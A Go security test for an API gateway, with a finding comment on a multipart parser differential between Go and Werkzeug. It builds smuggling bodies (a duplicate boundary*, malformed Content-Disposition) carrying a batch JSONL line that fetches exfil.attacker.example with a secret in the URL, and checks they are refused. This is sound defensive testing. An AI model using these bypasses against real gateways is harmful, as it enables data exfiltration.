package gateway

import (
	"net/http"
	"strings"
	"testing"
)

// FINDING (medium, with the files and batch endpoints added): the
// gateway and the provider's form parser must agree on the parts of a
// multipart body and on which one is "purpose", but Go's mime package
// and a Python one (Werkzeug 3.1, as Flask uses it; checked here with
// werkzeug.formparser.parse_form_data) disagree in two places, and
// multipartReach trusts Go's reading:
//
//   - Content-Type "multipart/form-data; boundary=x; boundary*=y": Go's
//     mime.ParseMediaType gives boundary "x", Werkzeug's
//     parse_options_header gives "y" (the later, RFC 2231 spelling wins).
//     Under "x" the body is one text part "note" (not JSON: passes); the
//     same bytes under "y" are a form with purpose=batch and a JSONL file
//     whose line has OpenAI fetch an attacker's image URL.
//   - a part whose Content-Disposition Go cannot parse
//     ("form-data; name=\"purpose\"; x", "inline; name=\"purpose\"", a
//     trailing ";;") has FormName "" in Go, so the form is not a batch
//     form and the JSONL part is not read line by line; Werkzeug reads
//     the same part as purpose=batch (checked: {'purpose': 'batch'}).
//
// The batch file's lines are then run by OpenAI's batch service (see
// TestAttackProviderToolsBatchFileUpload). A form the gateway cannot read
// unambiguously (a repeated boundary in any spelling, a part whose
// Content-Disposition does not parse) should be refused, not read one
// way.
func TestAttackProviderToolsMultipartParserDifferential(t *testing.T) {
	e := newEnv(t, defaultPaths(map[string][]string{"openai": {"POST /v1/files", "POST /v1/batches"}}))
	tok := e.mint(t, Grant{Providers: []string{"openai"}}).Token
	line := `{"custom_id":"b","method":"POST","url":"/v1/chat/completions","body":{"model":"gpt-4.1","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://exfil.attacker.example/i.png?d=SECRET-1234"}}]}]}}`
	batchForm := func(b, purposeCD string) string {
		return "--" + b + "\r\nContent-Disposition: " + purposeCD + "\r\n\r\nbatch\r\n" +
			"--" + b + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"b.jsonl\"\r\nContent-Type: application/jsonl\r\n\r\n" +
			line + "\n" + line + "\n\r\n--" + b + "--"
	}
	cases := []struct{ name, ct, body string }{
		{"boundary", "multipart/form-data; boundary=x; boundary*=y",
			"--x\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n" + batchForm("y", `form-data; name="purpose"`) + "\r\n--x--\r\n"},
		{"disposition param", "multipart/form-data; boundary=x", batchForm("x", `form-data; name="purpose"; x`) + "\r\n"},
		{"disposition type", "multipart/form-data; boundary=x", batchForm("x", `inline; name="purpose"`) + "\r\n"},
		{"disposition trailing", "multipart/form-data; boundary=x", batchForm("x", `form-data;name="purpose";;`) + "\r\n"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			h := bearer(tok)
			h["Content-Type"] = c.ct
			before := len(e.up["openai"].requests())
			code, _, resp := e.do(t, "POST", "/openai/v1/files", h, c.body)
			forwarded := len(e.up["openai"].requests()) != before
			if forwarded || code != http.StatusForbidden && code != http.StatusBadRequest {
				t.Errorf("= %d %q (forwarded: %v); want refused (403 %q or 400 %q)", code, strings.TrimSpace(resp), forwarded,
					ErrProviderTool.Error(), ErrBodyUnchecked.Error())
			}
		})
	}
}
